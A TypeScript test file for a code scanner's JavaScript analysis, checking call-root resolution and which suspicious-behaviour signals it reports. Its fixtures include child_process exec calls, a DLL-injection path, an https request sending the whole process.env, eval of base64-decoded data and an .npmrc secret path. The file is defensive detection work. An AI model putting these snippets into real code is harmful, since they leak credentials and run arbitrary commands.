import { describe, expect, it } from 'vitest';
import { analyseProgram } from '../../helper/src/scan/js/analyse.js';
import { parseProgram, type Node } from '../../helper/src/scan/js/parse.js';
import { callRoot } from '../../helper/src/scan/js/roots.js';

function program(text: string): Node {
  const parsed = parseProgram(text);
  if ('error' in parsed) throw new Error(parsed.error);
  return parsed.program;
}

/** The kinds of signal the analysis gives for `text`, in order. */
function kinds(text: string): string[] {
  return analyseProgram(program(text), text).signals.map((s) => s.kind);
}

/** callRoot of the first expression statement of `text` (a call or `new`). */
function root(text: string): string | null | undefined {
  const statement = (program(text).body as Node[])[0]!;
  return callRoot(statement.expression as Node);
}

describe('callRoot: what decides whether a call is graded', () => {
  it('is the name a callee hangs from, through members, calls, call/apply/bind, new and await', () => {
    expect(root('a.b.c(x);')).toBe('a');
    expect(root('a.b().c.call(null, x);')).toBe('a');
    expect(root('require("x").y(z);')).toBe('require');
    expect(root('new net.Socket();')).toBe('net');
    expect(root('(0, fs.readFileSync)(p);')).toBe('fs');
  });

  it('is null for a callee that hangs from no name, undefined where grading must look at the call', () => {
    expect(root('this.f(x);')).toBeNull();
    expect(root('(function () {})();')).toBeNull();
    expect(root('a[k](x);')).toBeUndefined();
    expect(root('(a || b).c(x);')).toBeUndefined();
    expect(root('x.dlopen(m, p);')).toBeUndefined();
    expect(root('req.end(data);')).toBeUndefined();
    expect(root("run('a.exe', 'b.dll');")).toBeUndefined();
  });
});

describe('analysis passes: what skipping work must keep', () => {
  it('an alias bound before the module it aliases (the second binding round)', () => {
    expect(kinds("const run = cp.exec;\nconst cp = require('child_process');\nrun('id');\n")).toContain('exec');
  });

  it('a module name folded from a constant bound after the require (the second binding round)', () => {
    expect(kinds("const m = require(n);\nvar n = 'child' + '_process';\nm.exec('id');\n")).toContain('exec');
  });

  it('one round suffices when every name is bound before it is used', () => {
    expect(kinds("const cp = require('child_process');\nconst run = cp.exec;\nrun('id');\n")).toContain('exec');
  });

  it('calls on unbound names still give their syntactic signals', () => {
    expect(kinds('process.dlopen(m, "/tmp/x.node");\n')).toContain('native-load');
    expect(kinds("lib.start('C:/x/app.exe', 'C:/x/inject.dll');\n")).toContain('dll');
  });

  it('a request object of an aliased module sends what it is given', () => {
    const signals = kinds("const h = require('https');\nconst req = h.request({ host: 'example.invalid' });\nreq.end(JSON.stringify(process.env));\n");
    expect(signals.filter((k) => k === 'network')).toHaveLength(2);
    expect(signals).toContain('flow-env');
  });

  it('through a global, eval of decoded data is a sink; other global calls are not', () => {
    expect(kinds("window.eval(atob('YWxlcnQoMSk='));\n")).toContain('eval-decoded');
    expect(kinds("window.document.createElement('div');\n")).toEqual([]);
  });

  it('only string literals that can signal are graded: one secret path among many strings', () => {
    const filler = Array.from({ length: 200 }, (_, i) => `'label number ${i}'`).join(', ');
    expect(kinds(`const labels = [${filler}];\nconst p = '/home/u/.npmrc';\n`)).toEqual(['secret-path']);
  });
});
